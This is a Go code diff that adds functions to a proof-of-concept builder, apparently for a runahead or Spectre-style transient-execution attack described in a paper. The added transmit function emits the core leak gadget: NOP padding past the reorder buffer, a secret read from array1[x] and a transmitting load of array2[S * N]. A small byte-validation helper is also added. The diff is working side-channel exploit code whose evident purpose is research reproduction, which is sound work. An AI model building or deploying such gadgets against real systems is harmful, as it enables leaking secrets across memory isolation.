@@ -246,6 +246,18 @@ func probeLoop(b *asm.Builder, p Params, label string) {
 	b.Blt(rJ, rLim, label)
 }
 
+// transmit emits the Fig. 3 gadget every variant reaches transiently: the
+// Fig. 11 padding, the secret access S = array1[x] and the transmitting
+// load of array2[S * N].
+func transmit(b *asm.Builder, p Params) {
+	b.NopN(p.NopPad) // Fig. 11: push the access beyond the ROB
+	b.Add(rVA, rArr1, rArg)
+	b.Ldb(rS, rVA, 0) // S = array1[x] — the secret access
+	b.Shli(rVT, rS, shiftFor(p.ProbeStride))
+	b.Add(rVT, rArr2, rVT)
+	b.Ldb(rZ, rVT, 0) // transmit: array2[S * N]
+}
+
 // waitLoop emits the Fig. 8 line 16 delay (`<some_operations> // waiting for
 // the victim's execution`): a serial countdown that outlasts the runahead
 // episode, so the episode's transient execution is trapped here and cannot
@@ -292,6 +304,15 @@ func (p Params) Validate() error {
 		return fmt.Errorf("params: nop_pad %d out of range (0..%d)", p.NopPad, 1<<16)
 	}
 	return nil
+}
+
+// SecretByte returns n as a one-byte secret, refusing a value outside
+// 0..255 that the conversion would wrap.
+func SecretByte(n int) (byte, error) {
+	if n < 0 || n > 255 {
+		return 0, fmt.Errorf("secret byte %d out of range", n)
+	}
+	return byte(n), nil
 }
 
 // Build assembles the PoC for the selected variant.
